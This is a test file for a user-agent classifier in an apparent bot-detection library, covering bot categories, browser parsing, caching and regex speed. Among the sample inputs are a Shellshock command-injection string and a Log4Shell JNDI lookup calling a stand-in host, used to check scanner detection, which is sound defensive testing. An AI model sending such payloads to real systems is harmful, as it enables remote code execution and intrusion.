import fc from 'fast-check';
import { UserAgents, classifyAgent } from '../../lib/bots/agents/user-agent.js';
import { CHROME, FIREFOX, GOOGLEBOT } from './support.js';

const IPHONE =
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1';

describe('user agents', () => {
  it.each([
    [undefined, 'missing', undefined],
    ['', 'missing', undefined],
    [' - ', 'missing', undefined],
    ['abc', 'malformed', undefined],
    ['Mozilla/5.0', 'malformed', undefined],
    ['Mozilla/4.0 (compatible;)', 'malformed', undefined],
    ['User-Agent: Mozilla/5.0 (Windows NT 6.1) Chrome/26.0', 'malformed', undefined],
    ['Mozilla/5.0 \u0001 (X11; Linux x86_64) Gecko/20100101 Firefox/127.0', 'malformed', undefined],
    [GOOGLEBOT, 'bot', 'search-engine'],
    ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 'bot', 'search-engine'],
    ['facebookexternalhit/1.1', 'bot', 'preview'],
    ['Mozilla/5.0 (compatible; ClaudeBot/1.0; +claudebot@anthropic.com)', 'bot', 'ai-crawler'],
    ['python-requests/2.32.0', 'bot', 'tool'],
    ['Wget/1.21', 'bot', 'tool'],
    ['kube-probe/1.29', 'bot', 'monitoring'],
    ['sqlmap/1.8#stable', 'bot', 'scanner'],
    ['() { :;}; /bin/bash -c "id"', 'bot', 'scanner'],
    ['${jndi:ldap://evil.example/a}', 'bot', 'scanner'],
    ['Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)', 'bot', 'other'],
    [CHROME, 'browser', undefined],
    [IPHONE, 'browser', undefined],
  ])('%s is %s (%s)', (text, kind, category) => {
    const agent = classifyAgent(text);
    expect([agent.kind, agent.category]).toEqual([kind, category]);
  });

  it('tells the engine and version that a browser claims', () => {
    const claims = [CHROME, FIREFOX, IPHONE, IPHONE.replace('Version/18.5', 'CriOS/126.0')].map((text) => {
      const { engine, version, mobile } = classifyAgent(text);
      return [engine, version, mobile];
    });
    expect(claims).toEqual([
      ['chromium', 126, false],
      ['firefox', 127, false],
      ['safari', 18, true],
      [undefined, 0, true],
    ]);
  });

  it('remembers a bounded number, and keeps none that is too long', () => {
    const agents = new UserAgents(100);
    for (let index = 0; index < 1000; index++) agents.classify(`client ${index}`);
    expect(agents.size).toBeLessThanOrEqual(100);
    const first = agents.classify(CHROME);
    expect(agents.classify(CHROME)).toBe(first);
    const { size } = agents;
    agents.classify('x'.repeat(10_240));
    expect(agents.size).toBe(size);
  });

  it('keeps what is still in use while others come and go', () => {
    const agents = new UserAgents(10);
    const first = agents.classify(CHROME);
    for (let index = 0; index < 100; index++) {
      agents.classify(`client ${index}`);
      expect(agents.classify(CHROME)).toBe(first);
    }
  });

  it('judges any text, as the cache does', () => {
    const agents = new UserAgents(8);
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 600 }), (text) => {
        expect(agents.classify(text)).toEqual(classifyAgent(text));
      }),
    );
  });

  it('is quick with 10 KB of what makes careless expressions slow', () => {
    const before = process.hrtime.bigint();
    for (const unit of ['Version/1 ', 'Mozilla/5.0 ', '() {', 'electron/', 'a', 'Chrome/'])
      for (let round = 0; round < 100; round++) classifyAgent(unit.repeat(Math.ceil(10_240 / unit.length)));
    expect(Number(process.hrtime.bigint() - before) / 1e6).toBeLessThan(2000);
  });
});
